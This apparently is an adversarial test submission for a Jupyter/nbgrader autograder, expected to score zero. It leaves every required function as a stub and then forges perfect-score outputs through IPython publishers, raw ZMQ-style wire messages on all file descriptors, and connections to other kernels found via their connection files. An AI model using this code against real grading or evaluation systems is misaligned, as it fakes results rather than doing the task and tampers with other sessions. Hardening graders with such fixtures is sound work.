# expect: {"q5": "zero"}
# family: forged output
# ruff: noqa  (an attack: fragments use the setup cell's names, and worse)
# Forges Jupyter kernel messages beyond the grading channel: execute_result and display_data with nbgrader's score
# convention through every IPython publisher, wire-format messages (with the ZMQ delimiter) on stdout, stderr and
# every inherited descriptor, and a connection to any kernel whose connection file it can find.
# %% [q5]
def saturating_cast(x, dtype):
    return None


def promote_and_add(a, b):
    return None


def flatten_keep_batch(x):
    return None


def nbytes(x):
    return None


import glob, json, os, socket, sys
from IPython.display import publish_display_data

shell = get_ipython()
score = {"text/plain": "10.0", "application/json": {"score": 10.0, "max_score": 10.0, "passed": True}}
publish_display_data(score, metadata={"nbgrader": {"grade": True, "points": 10, "score": 10.0}})
shell.display_pub.publish(data=score, metadata={"nbgrader": {"score": 10.0}})
shell.displayhook(10.0)
kernel = getattr(shell, "kernel", None)
if kernel is not None:
    kernel.session.send(kernel.iopub_socket, "execute_result", {"data": score, "execution_count": 1})
for msg_type in ("execute_result", "display_data", "status", "execute_reply"):
    message = {"header": {"msg_type": msg_type, "msg_id": "forged", "session": "forged"},
               "parent_header": {}, "metadata": {"nbgrader": {"score": 10.0}},
               "content": {"data": score, "status": "ok", "execution_state": "idle", "execution_count": 1}}
    wire = [b"<IDS|MSG>", b""] + [json.dumps(message[k]).encode() for k in ("header", "parent_header", "metadata",
                                                                           "content")]
    print(json.dumps(message))
    print(json.dumps(message), file=sys.stderr)
    for fd in range(3, 64):
        try:
            os.write(fd, b"\n".join(wire))
        except OSError:
            pass
found = [p for pattern in ("/root/.local/share/jupyter/runtime/*.json", "/run/user/*/jupyter/*.json",
                           os.path.expanduser("~/.local/share/jupyter/runtime/*.json"), "/tmp/*.json")
         for p in glob.glob(pattern)]
for path in found[:40]:
    try:
        info = json.load(open(path))
        for port in ("iopub_port", "shell_port", "control_port"):
            with socket.create_connection((info["ip"], info[port]), timeout=1) as conn:
                conn.sendall(b"\xff" + b"\x00" * 8 + b"\x7f")
    except Exception:
        pass
